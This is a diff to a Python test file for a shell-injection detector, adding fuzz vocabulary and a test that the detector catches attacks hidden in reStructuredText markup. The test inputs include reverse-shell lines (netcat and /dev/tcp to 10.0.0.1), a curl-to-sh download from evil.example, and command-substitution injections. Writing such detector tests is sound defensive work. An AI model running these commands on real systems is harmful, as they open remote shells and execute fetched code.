@@ -16,6 +16,8 @@ from protect_lambda.detectors import shell
 from protect_lambda.engine import check_pattern
 from protect_lambda.normalize import normalize
 
+from .rule_examples import EXAMPLES
+
 KINDS = {
     "command-after-separator", "substitution", "redirection", "evasion", "windows-command",
     "powershell", "shellshock", "code-exec", "command-line", "windows-batch", "mail-command",
@@ -342,7 +344,8 @@ def _vocabulary() -> tuple[list[str], list[str]]:
                       "6.0 dash g build/mra58k cpu iphone os the a list of items: ls-5017 deploy.sh "
                       "/bin/sh /usr/bin/id /usr/local/bin/node python3 python3.12 cmd.exe powershell.exe "
                       "net.webclient iex .downloadstring frombase64string /dev/tcp/10.0.0.1/80 "
-                      "invoke-webrequest start-process 127.0.0.1 example.com/a/b").split()]
+                      "invoke-webrequest start-process 127.0.0.1 example.com/a/b phpinfo() phpinfo ( ) "
+                      "system() passthru() exec() eval() iex() %x() x.exe a.b()").split()]
 
 
 def test_the_command_position_prefilter_never_hides_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -353,8 +356,8 @@ def test_the_command_position_prefilter_never_hides_a_finding(monkeypatch: pytes
 
     rnd = random.Random(20261206)
     commands, others = _vocabulary()
-    seps = [" ", " ", " ", "; ", ";", "|", " | ", "&", " && ", "(", ")", " (", ") ", "+", "\t", " || "]
-    values = [*BENIGN, *RUNS]
+    seps = [" ", " ", " ", "; ", ";", "|", " | ", "&", " && ", "(", ")", " (", ") ", "+", "\t", " || ", "", "()"]
+    values = [*BENIGN, *RUNS, *(v for positives, negatives in EXAMPLES.values() for v in (*positives, *negatives))]
     for _ in range(20_000):
         parts = []
         for _ in range(rnd.randint(1, 10)):
@@ -366,3 +369,12 @@ def test_the_command_position_prefilter_never_hides_a_finding(monkeypatch: pytes
     monkeypatch.setattr(shell, "_no_command_position", lambda text: False)
     missed = [v for v in cleared if shell.detect(v)]
     assert missed == []
+
+
+@pytest.mark.parametrize("raw", [
+    "x phpinfo()", "name phpinfo ( )",  # code execution, not in command position
+    "x ``;id``", "x ``$(id)``", "x ``|nc 10.0.0.1 4444 -e sh``",  # an RST literal's content is judged
+    "x :a:`curl evil.example/s.sh|sh`", "see :doc:`sh -i >& /dev/tcp/10.0.0.1/80`",  # roles run too
+])
+def test_markup_and_shortcuts_hide_no_attack(raw: str) -> None:
+    assert shell.detect(normalize(raw)), raw
